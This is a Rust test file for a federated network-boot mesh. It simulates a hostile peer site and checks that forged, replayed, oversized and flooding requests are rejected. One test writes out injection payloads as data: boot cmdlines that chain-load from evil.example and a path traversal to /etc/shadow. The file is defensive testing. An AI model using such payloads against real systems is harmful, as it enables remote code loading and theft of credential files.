//! A hostile site: it was invited, holds a peer's certificate, and keeps no rules.

use std::{
    net::SocketAddr,
    sync::{
        Arc, Mutex,
        atomic::{AtomicUsize, Ordering},
    },
    time::{Duration, Instant},
};

use crate::{
    is_local,
    town::{MAC, SIZES, Town, linked, named},
};
use enforcer::{ca::Ca, state::peer::InvitationText};
use mesh_net::{
    Answer, Body, CallError, Csr, EnrolAnswer, EnrolAsk, LinkEnd, LinkHandle, MeshAuthority,
    MeshNote, MeshServer, PeerCert, PeerLink, ServerConfig, ServerHandle,
};
use mesh_proto::message::{
    Refusal, RefusalCode,
    link::{FromAgent, Hello, Welcome},
    peer::{
        ClosedBy, Evidence, FromInviter, Grant, GrantedAnswer, GrantedFile, Outcome, PeerAsk,
        PeerReply, Question, ToInviter,
    },
};
use tokio::sync::Semaphore;
use tokio::sync::mpsc::{UnboundedReceiver, UnboundedSender, unbounded_channel};
use tokio_util::sync::CancellationToken;

const SOON: Duration = Duration::from_secs(10);

/// How it answers a peek or a claim; `None`: not at all.
type Tongue = Arc<dyn Fn(&PeerAsk) -> Option<PeerReply> + Send + Sync>;

/// The site, as its authority.
struct Villain {
    links: UnboundedSender<PeerLink>,
    tongue: Mutex<Tongue>,
    asked: AtomicUsize,
    /// What it sends for a file, and a permit for each of its pieces.
    file: Mutex<Vec<bytes::Bytes>>,
    gate: Arc<Semaphore>,
}

/// Sends pieces from byte `from` on, each when the gate lets it; a link that ends loses the rest.
async fn drip(
    file: Vec<bytes::Bytes>,
    from: u64,
    gate: Arc<Semaphore>,
    to: mesh_net::PeerResponder,
) {
    let whole = file.iter().map(|p| p.len() as u64).sum::<u64>();
    let (send, bytes) = tokio::sync::mpsc::channel(1);
    let pieces = async move {
        let mut skip = usize::try_from(from).unwrap();
        for mut piece in file {
            let gone = skip.min(piece.len());
            skip -= gone;
            let piece = piece.split_off(gone);
            if piece.is_empty() {
                continue;
            }
            gate.acquire().await.unwrap().forget();
            if send.send(piece).await.is_err() {
                return;
            }
        }
    };
    let len = Some(whole - from);
    let flow = mesh_net::Flow { len, bytes };
    tokio::join!(pieces, to.follow(whole - from, flow));
}

fn never() -> Refusal {
    Refusal::new(RefusalCode::NotAllowed, "no")
}

impl MeshAuthority for Villain {
    fn admit(&self, _: &PeerCert) -> Result<(), Refusal> {
        Err(never())
    }
    async fn enrol(&self, _: EnrolAsk) -> EnrolAnswer {
        EnrolAnswer::Refused(never())
    }
    async fn hello(&self, _: &LinkHandle, _: Hello) -> Result<Welcome, Refusal> {
        Err(never())
    }
    async fn request(&self, _: &LinkHandle, _: FromAgent, _: Body) -> Answer {
        mesh_proto::message::link::ControllerReply::Refused(never()).into()
    }
    async fn renew(&self, _: &PeerCert, _: Csr, _: SocketAddr) -> Result<String, Refusal> {
        Err(never())
    }
    fn closed(&self, _: &LinkHandle, _: LinkEnd) {}
    fn note(&self, _: MeshNote) {}

    async fn peer(&self, link: PeerLink) {
        self.links.send(link.clone()).unwrap();
        let mut unanswered = Vec::new();
        while let Ok(incoming) = link.accept().await {
            let Ok((ask, to)) = incoming.read().await else {
                continue;
            };
            let is_question = matches!(ask, PeerAsk::Peek(_) | PeerAsk::Claim(_));
            self.asked
                .fetch_add(usize::from(is_question), Ordering::SeqCst);
            let tongue = Arc::clone(&self.tongue.lock().unwrap());
            if let PeerAsk::File { from, .. } = ask {
                let file = self.file.lock().unwrap().clone();
                tokio::spawn(drip(file, from, Arc::clone(&self.gate), to));
                continue;
            }
            match (is_question, tongue(&ask)) {
                (false, _) => to.reply(&PeerReply::Noted).await,
                (true, Some(reply)) => to.reply(&reply).await,
                (true, None) => unanswered.push(to),
            }
        }
    }
}

/// The site, running.
pub(crate) struct Den {
    villain: Arc<Villain>,
    handle: ServerHandle,
    links: UnboundedReceiver<PeerLink>,
    _folder: tempfile::TempDir,
}

impl Den {
    /// It accepts an invitation of the town's; the town lets it boot unknown machines, and it names the machine.
    pub(crate) async fn joined(town: &Town) -> (Self, PeerLink) {
        Self::joined_as("site-x", town).await
    }

    /// The same under another name.
    pub(crate) async fn joined_as(name: &str, town: &Town) -> (Self, PeerLink) {
        let folder = tempfile::tempdir().unwrap();
        let ca = Ca::open(folder.path(), name).unwrap();
        let now = town.site.store.now().as_second();
        let identity = ca.identity(now).unwrap();
        let town_ca = mesh_net::keys::certificate_der(town.mesh.ca().pem()).unwrap();
        let believed = town_ca.clone();
        let mut config = ServerConfig::new(
            "127.0.0.1:0".parse().unwrap(),
            identity,
            Arc::new(move || now),
        );
        config.peers = Arc::new(move |_| Some(believed.clone()));
        let server = MeshServer::bind(config).unwrap();
        let (at, handle) = (server.local_addr().unwrap(), server.handle());
        let (tell, links) = unbounded_channel();
        let villain = Arc::new(Villain {
            links: tell,
            tongue: Mutex::new(Arc::new(|_| None)),
            asked: AtomicUsize::new(0),
            // As many bytes as are granted, and others.
            file: Mutex::new(vec![bytes::Bytes::from_static(b"evil")]),
            gate: Arc::new(Semaphore::new(Semaphore::MAX_PERMITS)),
        });
        tokio::spawn(server.run(Arc::clone(&villain), CancellationToken::new()));
        let made = town.federation().invite("ann".to_owned()).await.unwrap();
        let text: InvitationText = made.unwrap().1.parse().unwrap();
        let join = ToInviter::Join {
            invitation: text.id.to_string(),
            secret: text.secret.clone(),
            site: name.to_owned(),
            ca: ca.pem().to_owned(),
            addresses: vec![at],
        };
        let inviter = (text.site.as_str(), text.ca_sha256.0);
        let joined = handle.join_peer(inviter, town.links, &join).await.unwrap();
        assert!(matches!(joined, FromInviter::Joined { .. }), "{joined:?}");
        let mut den = Self {
            villain,
            handle,
            links,
            _folder: folder,
        };
        let site = name.parse().unwrap();
        linked(town, &site).await;
        let allow = enforcer::state::ops::AllowPeer {
            site,
            may_ask: None,
            may_boot: None,
            may_boot_unknown: Some(true),
            may_see: None,
            gives_images: None,
            by: "ann".to_owned(),
        };
        town.site.apply(allow).await.unwrap();
        let link = den.links.recv().await.unwrap();
        let macs = vec![MAC.to_string()];
        let told = link.ask(&PeerAsk::Macs { macs }, SOON).await.unwrap();
        assert_eq!(told, PeerReply::Noted);
        named(town).await;
        (den, link)
    }

    /// It dials the town, whether a link stands or not.
    pub(crate) async fn dials(&self, town: &Town) -> PeerLink {
        let ca = mesh_net::keys::certificate_der(town.mesh.ca().pem()).unwrap();
        let dialled = self.handle.dial_peer(town.name.as_str(), ca, town.links);
        dialled.await.unwrap()
    }

    /// What it sends for files from now on, a piece for each permit of the semaphore that is given back.
    pub(crate) fn sends(&self, pieces: Vec<bytes::Bytes>) -> Arc<Semaphore> {
        let gate = Arc::clone(&self.villain.gate);
        gate.forget_permits(Semaphore::MAX_PERMITS);
        *self.villain.file.lock().unwrap() = pieces;
        gate
    }

    pub(crate) fn says(
        &self,
        tongue: impl Fn(&PeerAsk) -> Option<PeerReply> + Send + Sync + 'static,
    ) {
        *self.villain.tongue.lock().unwrap() = Arc::new(tongue);
    }
}

type Lie = (&'static str, fn(&mut Grant));

pub(crate) fn grant() -> Grant {
    Grant {
        nonce: "0123456789abcdef0123456789abcdef".to_owned(),
        config: "live".to_owned(),
        standing: false,
        writes_disk: false,
        closed_by: ClosedBy::Fetched,
        files: vec![GrantedFile {
            name: SIZES[0].0.to_owned(),
            sha256: "ab".repeat(32),
            size: 4,
        }],
        cmdline: "quiet".to_owned(),
        answers: Default::default(),
        lives_s: 60,
    }
}

pub(crate) fn offers(grant: Grant) -> impl Fn(&PeerAsk) -> Option<PeerReply> {
    move |ask| match ask {
        PeerAsk::Peek(_) => Some(PeerReply::Offer {
            config: "live".to_owned(),
            writes_disk: false,
        }),
        _ => Some(PeerReply::Grant(Box::new(grant.clone()))),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_peer_that_never_answers_costs_one_deadline_and_explain_says_so() {
    let a = Town::start("site-a").await;
    let (den, _link) = Den::joined(&a).await;
    let begun = Instant::now();
    let script = a.site.script(MAC, "s1").await;
    let took = begun.elapsed();
    assert!(is_local(&script), "{script}");
    assert!((1500..3000).contains(&took.as_millis()), "{took:?}");
    // The second try of the same boot does not ask again.
    let begun = Instant::now();
    assert!(is_local(&a.site.script(MAC, "s1").await));
    assert!(
        begun.elapsed() < Duration::from_millis(1000),
        "{:?}",
        begun.elapsed()
    );
    assert_eq!(den.villain.asked.load(Ordering::SeqCst), 1);
    assert_eq!(
        a.explains().await.1,
        "site-x: did not answer within 1500 ms"
    );
    a.site.store.flush().await.unwrap();
    let view = a.site.view();
    let asked = view
        .events_after(0)
        .find(|e| e.draft.kind == "boot.peers-asked")
        .unwrap();
    assert!(
        asked.draft.text.contains("did not answer"),
        "{}",
        asked.draft.text
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn nonsense_in_a_grant_never_reaches_a_script() {
    let a = Town::start("site-a").await;
    let (den, _link) = Den::joined(&a).await;
    let rows: [Lie; 6] = [
        ("newline", |g| {
            g.cmdline = "quiet\nchain http://evil.example/x".to_owned();
        }),
        ("expansion", |g| g.cmdline = "quiet ${net0/mac}".to_owned()),
        ("operator", |g| {
            g.cmdline = "quiet || chain http://evil.example/x".to_owned();
        }),
        ("path", |g| {
            g.files[0].name = "../../../etc/shadow".to_owned();
        }),
        ("sum", |g| g.files[0].sha256 = "../../secret".to_owned()),
        ("huge", |g| {
            g.answers.push(GrantedAnswer {
                name: "x".to_owned(),
                text: "y".repeat(900 << 10),
            });
        }),
    ];
    for (n, (what, spoil)) in rows.into_iter().enumerate() {
        let mut bad = grant();
        spoil(&mut bad);
        den.says(offers(bad));
        // Another machine each time: what was said of one is remembered for a moment.
        let mut mac = MAC;
        mac.0[4] = u8::try_from(n).unwrap() + 1;
        let link = a.federation();
        assert_eq!(link.links_with(&"site-x".parse().unwrap()), 1, "{what}");
        let named = enforcer::state::peer::NamedMacs {
            site: "site-x".parse().unwrap(),
            macs: [MAC, mac].into(),
        };
        assert!(a.site.apply(enforcer::state::ops::TakeMacs(named)).await);
        let script = a.site.script(mac, "s1").await;
        assert!(
            is_local(&script) && !script.contains("evil"),
            "{what}: {script}"
        );
        assert_eq!(a.site.view().activations().count(), 0, "{what}");
    }
    assert_eq!(
        den.villain.asked.load(Ordering::SeqCst),
        12,
        "all were asked and claimed"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn other_bytes_than_granted_are_not_served() {
    let a = Town::start("site-a").await;
    let (den, _link) = Den::joined(&a).await;
    den.says(offers(grant()));
    let script = a.site.script(MAC, "s1").await;
    assert!(script.contains("kernel "), "{script}");
    let path = format!("/boot/n/{}/{}?s=s1", grant().nonce, SIZES[0].0);
    let (status, _) = a.site.get(&path).await;
    assert_eq!(status, 404);
    assert_eq!(
        std::fs::read_dir(a.site.state.path().join("assets/peers"))
            .unwrap()
            .count(),
        0
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_peer_can_neither_forge_nor_replay_nor_ask_in_anothers_name() {
    let (a, b) = crate::towns().await;
    let (_den, link) = Den::joined(&b).await;
    let armed = b.arms("quiet").await;
    named(&a).await;
    // B's machine may boot at A; site-x may ask about none, whoever it says it is.
    for visited in [
        vec![],
        vec!["site-a".to_owned()],
        vec!["site-b".to_owned()],
        vec!["A b".to_owned()],
    ] {
        let question = Question {
            mac: MAC.to_string(),
            arch: None,
            session: Some("x".repeat(10_000)),
            visited,
            hops: 255,
        };
        for ask in [PeerAsk::Peek(question.clone()), PeerAsk::Claim(question)] {
            let answer = link.ask(&ask, SOON).await.unwrap();
            assert!(matches!(answer, PeerReply::Nothing { .. }), "{answer:?}");
        }
    }
    assert!(a.site.script(MAC, "s1").await.contains("kernel "));
    // The nonce is known to who saw the machine's plain HTTP; the word of another site does not count.
    let evidence = |outcome| {
        PeerAsk::Evidence(Evidence {
            nonce: armed.nonce.to_string(),
            outcome,
            reason: "forged\n${x}".to_owned(),
        })
    };
    for outcome in [Outcome::Confirmed, Outcome::Failed, Outcome::Released] {
        let answer = link.ask(&evidence(outcome), SOON).await;
        assert!(matches!(answer, Err(CallError::Refused(_))), "{answer:?}");
    }
    let file = PeerAsk::File {
        nonce: armed.nonce.to_string(),
        index: 0,
        from: 0,
    };
    assert!(matches!(
        link.fetch(&file, SOON).await,
        Err(CallError::Refused(_))
    ));
    let kept = b.site.view().activation(armed.id).unwrap().clone();
    assert!(kept.is_open() && kept.given.as_ref().unwrap().site == a.name);
    // Too many machines, or none that could be: the ones before stay.
    for macs in [
        vec!["52:54:00:00:00:01".to_owned(); 4097],
        vec!["evil".to_owned()],
    ] {
        let answer = link.ask(&PeerAsk::Macs { macs }, SOON).await;
        assert!(answer.is_err(), "{answer:?}");
    }
    assert!(b.site.view().named_by(&"site-x".parse().unwrap()).is_some());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_questions_waits_and_others_are_served_meanwhile() {
    let (a, b) = crate::towns().await;
    let (den, link) = Den::joined(&b).await;
    b.arms("quiet").await;
    named(&a).await;
    let question = Question {
        mac: MAC.to_string(),
        arch: None,
        session: None,
        visited: Vec::new(),
        hops: 0,
    };
    let begun = Instant::now();
    let flood = async {
        for _ in 0..120 {
            let _answer = link.ask(&PeerAsk::Peek(question.clone()), SOON).await;
        }
        begun.elapsed()
    };
    let machine = async {
        let script = a.site.script(MAC, "s1").await;
        (script, begun.elapsed())
    };
    let (flooded, (script, took)) = tokio::join!(flood, machine);
    assert!(script.contains("kernel "), "{script}");
    assert!(took < Duration::from_secs(1), "{took:?}");
    assert!(flooded > Duration::from_secs(1), "50 a second: {flooded:?}");
    drop(den.handle);
}
